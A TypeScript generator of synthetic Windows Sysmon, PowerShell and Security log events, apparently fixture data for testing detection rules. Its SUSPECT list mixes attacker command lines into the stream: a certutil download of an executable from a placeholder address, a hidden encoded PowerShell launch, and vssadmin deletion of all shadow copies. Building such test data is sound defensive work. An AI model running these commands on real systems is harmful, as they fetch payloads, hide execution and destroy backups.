import { clock, fill, fillRow, type Logged, pick, type Random, type Row, series } from './text.ts'

/** A program as Sysmon's event 1 tells of it, and command lines that it is ordinarily started with. */
interface Program {
  readonly image: string
  readonly name: string
  readonly about: string
  readonly company: string
  readonly lines: readonly string[]
}

const SYSTEM = 'C:\\Windows\\System32\\'
const microsoft = (image: string, about: string, ...lines: readonly string[]): Program => ({
  image: image.includes(':') ? image : SYSTEM + image,
  name: image.split('\\').at(-1) ?? image,
  about,
  company: 'Microsoft Corporation',
  lines,
})
const other = (company: string, image: string, about: string, ...lines: readonly string[]): Program => ({
  ...microsoft(image, about, ...lines),
  company,
})

const PROGRAMS: readonly Program[] = [
  microsoft(
    'svchost.exe',
    'Host Process for Windows Services',
    `${SYSTEM}svchost.exe -k netsvcs -p -s Schedule`,
    `${SYSTEM}svchost.exe -k LocalService -p`,
  ),
  microsoft('conhost.exe', 'Console Window Host', `\\??\\${SYSTEM}conhost.exe 0xffffffff -ForceV1`),
  microsoft('taskhostw.exe', 'Host Process for Windows Tasks', 'taskhostw.exe', 'taskhostw.exe KEYROAMING'),
  microsoft(
    'backgroundTaskHost.exe',
    'Background Task Host',
    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX{h32}.mca',
  ),
  microsoft('RuntimeBroker.exe', 'Runtime Broker', `${SYSTEM}RuntimeBroker.exe -Embedding`),
  microsoft(
    'SearchProtocolHost.exe',
    'Microsoft Windows Search Protocol Host',
    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{d4}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{d4} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)"',
  ),
  microsoft('wbem\\WmiPrvSE.exe', 'WMI Provider Host', `${SYSTEM}wbem\\wmiprvse.exe -secured -Embedding`),
  microsoft('dllhost.exe', 'COM Surrogate', `${SYSTEM}DllHost.exe /Processid:{h8}`),
  microsoft(
    'WindowsPowerShell\\v1.0\\powershell.exe',
    'Windows PowerShell',
    'powershell.exe -NoProfile -File C:\\Tools\\{word}-{d4}.ps1',
    'powershell.exe -NoProfile -Command "Get-Service | Where-Object Status -eq Running"',
  ),
  microsoft(
    'cmd.exe',
    'Windows Command Processor',
    'C:\\Windows\\system32\\cmd.exe /c "C:\\Build\\agent\\{word}.bat" {d4}',
    'cmd.exe /d /s /c "npm run {word}"',
    'cmd.exe /c dir D:\\Share\\{word}',
  ),
  microsoft('ipconfig.exe', 'IP Configuration Utility', 'ipconfig /renew'),
  microsoft('msiexec.exe', 'Windows Installer', 'C:\\Windows\\system32\\msiexec.exe /V'),
  microsoft('rundll32.exe', 'Windows host process (Rundll32)', 'rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask'),
  microsoft('gpupdate.exe', 'Group Policy Update Utility', 'gpupdate.exe /target:computer'),
  microsoft('C:\\Windows\\explorer.exe', 'Windows Explorer', 'C:\\Windows\\Explorer.EXE'),
  microsoft(
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    'Microsoft Word',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\{word} {d4}.docx" /o ""',
  ),
  microsoft(
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    'Microsoft Outlook',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
  ),
  microsoft(
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    'Microsoft Edge',
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer --lang=en-GB --js-flags=--ms-user-locale= --device-scale-factor=1.25 --num-raster-threads=4 --renderer-client-id={d4} --time-ticks-at-unix-epoch=-{d6} --mojo-platform-channel-handle={d4} /prefetch:1',
  ),
  other(
    'Google LLC',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    'Google Chrome',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --mojo-platform-channel-handle={d4} --field-trial-handle={d4},i,{d6} /prefetch:8',
  ),
  other(
    'Node.js',
    'C:\\Program Files\\nodejs\\node.exe',
    'Node.js JavaScript Runtime',
    '"node" "C:\\Build\\agent\\_work\\{d4}\\node_modules\\.bin\\..\\typescript\\bin\\tsc" -p .',
    'node C:\\Users\\{user}\\source\\{word}\\server.js --port {d4}',
  ),
  other(
    'The Git Development Community',
    'C:\\Program Files\\Git\\mingw64\\bin\\git.exe',
    'Git for Windows',
    'git.exe fetch --prune --tags origin',
    'git.exe -c core.quotepath=false log --max-count=50 --date=iso {h32}',
  ),
  other(
    'Oracle Corporation',
    'C:\\Program Files\\Java\\jdk-21\\bin\\java.exe',
    'OpenJDK Platform binary',
    'java -Xmx2g -Dfile.encoding=UTF-8 -jar C:\\Apps\\{word}\\{word}-{d4}.jar --spring.profiles.active=prod',
  ),
  other(
    'Example Backup Ltd',
    'C:\\Program Files\\Example Backup\\agent.exe',
    'Backup agent',
    '"C:\\Program Files\\Example Backup\\agent.exe" --job {guid} --incremental',
  ),
]

/** Started now and then, and what rules are for. */
const SUSPECT: readonly Program[] = [
  microsoft('whoami.exe', 'whoami - displays logged on user information', 'whoami /all'),
  microsoft(
    'certutil.exe',
    'CertUtil.exe',
    'certutil.exe -urlcache -split -f http://{net}/{word}.txt C:\\Users\\Public\\{word}.exe',
  ),
  microsoft(
    'WindowsPowerShell\\v1.0\\powershell.exe',
    'Windows PowerShell',
    'powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  ),
  microsoft(
    'vssadmin.exe',
    'Command Line Interface for Microsoft Volume Shadow Copy Service',
    'vssadmin.exe delete shadows /all /quiet',
  ),
]

const sysmon = (id: number, at: number, random: Random): Row => ({
  EventID: id,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Provider_Name: 'Microsoft-Windows-Sysmon',
  Computer: fill('{host}.corp.example.com', random),
  UtcTime: clock(at).replace('T', ' ').replace('Z', ''),
  ProcessGuid: fill('{guid}', random),
  ProcessId: Math.floor(random() * 20_000),
})
const hashes = (random: Random): string => fill('SHA1={h32}{h8},MD5={h32},SHA256={h64},IMPHASH={h32}', random)
const integrity = ['System', 'High', 'Medium', 'Low'] as const

/** What ordinarily starts a program; the shell where it is not listed. */
const PARENTS: Readonly<Record<string, readonly [image: string, line: string]>> = {
  'svchost.exe': [`${SYSTEM}services.exe`, `${SYSTEM}services.exe`],
  'msiexec.exe': [`${SYSTEM}services.exe`, `${SYSTEM}services.exe`],
  'conhost.exe': [`${SYSTEM}cmd.exe`, 'cmd.exe /d /s /c "npm run build"'],
  'taskhostw.exe': [`${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k netsvcs -p -s Schedule`],
  'backgroundTaskHost.exe': [`${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k DcomLaunch -p`],
  'RuntimeBroker.exe': [`${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k DcomLaunch -p`],
  'SearchProtocolHost.exe': [`${SYSTEM}SearchIndexer.exe`, `${SYSTEM}SearchIndexer.exe /Embedding`],
  'WmiPrvSE.exe': [`${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k DcomLaunch -p`],
  'dllhost.exe': [`${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k DcomLaunch -p`],
  'rundll32.exe': [`${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k netsvcs -p -s PcaSvc`],
  'gpupdate.exe': [`${SYSTEM}svchost.exe`, `${SYSTEM}svchost.exe -k netsvcs -p -s Schedule`],
}
const SHELL = ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'] as const

function started(random: Random, at: number): Row {
  const program = at % 250 === 249 ? pick(random, SUSPECT) : pick(random, PROGRAMS)
  const [parent, parentLine] = PARENTS[program.name] ?? SHELL
  const { image, name, about, company } = program
  return {
    ...sysmon(1, at, random),
    Image: image,
    FileVersion: '10.0.22621.1 (WinBuild.160101.0800)',
    Description: about,
    Product: company === 'Microsoft Corporation' ? 'Microsoft® Windows® Operating System' : about,
    Company: company,
    OriginalFileName: name,
    CommandLine: fill(pick(random, program.lines), random),
    CurrentDirectory: fill(pick(random, [SYSTEM, 'C:\\Users\\{user}\\', 'C:\\Build\\agent\\_work\\{d4}\\']), random),
    User: fill(pick(random, ['CORP\\{user}', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE']), random),
    LogonGuid: fill('{guid}', random),
    LogonId: fill('0x{h8}', random),
    TerminalSessionId: Math.floor(random() * 3),
    IntegrityLevel: pick(random, integrity),
    Hashes: hashes(random),
    ParentProcessGuid: fill('{guid}', random),
    ParentProcessId: Math.floor(random() * 20_000),
    ParentImage: parent,
    ParentCommandLine: parentLine,
    ParentUser: fill('CORP\\{user}', random),
  }
}

const by = (random: Random): Row => ({ Image: pick(random, PROGRAMS).image, User: fill('CORP\\{user}', random) })

/** The other events of Sysmon, of the Security log and of PowerShell, by what Sigma calls them. */
const OTHERS: readonly { readonly category?: string; readonly service: string; make(random: Random, at: number): Row }[] = [
  {
    category: 'network_connection',
    service: 'sysmon',
    make: (random, at) => ({
      ...sysmon(3, at, random),
      ...by(random),
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: fill('{ip}', random),
      SourceHostname: fill('{host}.corp.example.com', random),
      SourcePort: Math.floor(random() * 16_000) + 49_152,
      DestinationIp: fill(pick(random, ['{net}', '{ip}']), random),
      DestinationHostname: fill(pick(random, ['{word}.example.net', 'updates.example.com', '']), random),
      DestinationPort: pick(random, [443, 443, 443, 80, 53, 445, 389]),
    }),
  },
  {
    category: 'image_load',
    service: 'sysmon',
    make: (random, at) => ({
      ...sysmon(7, at, random),
      ...by(random),
      ImageLoaded:
        SYSTEM + pick(random, ['kernel32.dll', 'ntdll.dll', 'user32.dll', 'combase.dll', 'bcrypt.dll', 'msvcp_win.dll']),
      Description: 'Windows base library',
      Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation',
      Hashes: hashes(random),
      Signed: 'true',
      Signature: 'Microsoft Windows',
      SignatureStatus: 'Valid',
    }),
  },
  {
    category: 'file_event',
    service: 'sysmon',
    make: (random, at) => ({
      ...sysmon(11, at, random),
      ...by(random),
      TargetFilename: fill(
        pick(random, [
          'C:\\Users\\{user}\\AppData\\Local\\Temp\\{h8}.tmp',
          'C:\\Users\\{user}\\Documents\\{word} {d4}.xlsx',
          'C:\\Build\\agent\\_work\\{d4}\\src\\{word}.ts',
          'C:\\ProgramData\\Example Backup\\logs\\{word}.log',
        ]),
        random,
      ),
      CreationUtcTime: clock(at).replace('T', ' ').replace('Z', ''),
    }),
  },
  {
    category: 'registry_set',
    service: 'sysmon',
    make: (random, at) => ({
      ...sysmon(13, at, random),
      ...by(random),
      EventType: 'SetValue',
      TargetObject: fill(
        pick(random, [
          'HKU\\S-1-5-21-{d6}-{d6}-{d6}-{d4}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.{word}\\OpenWithList\\a',
          'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\{word}',
          'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{word}',
        ]),
        random,
      ),
      Details: pick(random, ['DWORD (0x00000001)', 'Binary Data', 'QWORD (0x01db0000-0x00000000)']),
    }),
  },
  {
    category: 'dns_query',
    service: 'sysmon',
    make: (random, at) => ({
      ...sysmon(22, at, random),
      ...by(random),
      QueryName: fill(pick(random, ['{word}.example.net', 'login.example.com', '{host}.corp.example.com']), random),
      QueryStatus: '0',
      QueryResults: fill('::ffff:{net};::ffff:{net};', random),
    }),
  },
  {
    category: 'process_access',
    service: 'sysmon',
    make: (random, at) => ({
      ...sysmon(10, at, random),
      SourceImage: pick(random, PROGRAMS).image,
      TargetImage: pick(random, PROGRAMS).image,
      GrantedAccess: pick(random, ['0x1000', '0x1400', '0x1fffff', '0x101000']),
      CallTrace: fill(
        `${SYSTEM}ntdll.dll+{d4}|${SYSTEM}KERNELBASE.dll+{d4}|${SYSTEM}combase.dll+{d4}|${SYSTEM}rpcrt4.dll+{d4}`,
        random,
      ),
      SourceUser: fill('CORP\\{user}', random),
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
  },
  {
    category: 'ps_script',
    service: 'powershell',
    make: (random, at) => ({
      EventID: 4104,
      Channel: 'Microsoft-Windows-PowerShell/Operational',
      Computer: fill('{host}.corp.example.com', random),
      UtcTime: clock(at),
      ScriptBlockId: fill('{guid}', random),
      Path: fill('C:\\Tools\\{word}-{d4}.ps1', random),
      ScriptBlockText: fill(
        pick(random, [
          'param([string]$Name = "{word}")\n$items = Get-ChildItem -Path "D:\\Share\\$Name" -Recurse | Sort-Object Length -Descending\nforeach ($item in $items | Select-Object -First 20) {\n  Write-Output ("{0} {1}" -f $item.FullName, $item.Length)\n}\n',
          '$report = Import-Csv -Path "C:\\Reports\\{word}-{d4}.csv" | Group-Object Department\n$report | ForEach-Object { "$($_.Name): $($_.Count)" } | Set-Content "C:\\Reports\\{word}.txt"\n',
        ]),
        random,
      ),
    }),
  },
  {
    service: 'security',
    make: (random, at) => ({
      EventID: pick(random, [4624, 4624, 4648, 4672, 4688, 5156]),
      Channel: 'Security',
      Provider_Name: 'Microsoft-Windows-Security-Auditing',
      Computer: fill('{host}.corp.example.com', random),
      TimeCreated: clock(at),
      ...fillRow(
        {
          SubjectUserSid: 'S-1-5-18',
          SubjectUserName: '{host}$',
          SubjectDomainName: 'CORP',
          SubjectLogonId: '0x3e7',
          TargetUserSid: 'S-1-5-21-{d6}-{d6}-{d6}-{d4}',
          TargetUserName: '{user}',
          TargetDomainName: 'CORP',
          TargetLogonId: '0x{h8}',
          LogonProcessName: 'Kerberos',
          AuthenticationPackageName: 'Kerberos',
          WorkstationName: '-',
          IpAddress: '{ip}',
          IpPort: '{n}',
        },
        random,
      ),
      LogonType: pick(random, [2, 3, 3, 5, 7]),
    }),
  },
]

/** Sysmon's process creations, about 1.3 kB each; one in 250 is what rules are for. */
export const processCreation = (count: number, seed = 11): readonly Logged[] =>
  series(count, seed, (random, at) => ({
    logsource: { product: 'windows', category: 'process_creation', service: 'sysmon' },
    record: started(random, at),
  }))

/** What else a Windows host logs: connections, libraries, files, registry, DNS, process access, PowerShell, logons. */
export const windowsEvents = (count: number, seed = 12): readonly Logged[] =>
  series(count, seed, (random, at) => {
    const kind = pick(random, OTHERS)
    const { category, service } = kind
    return { logsource: { product: 'windows', service, ...(category ? { category } : {}) }, record: kind.make(random, at) }
  })
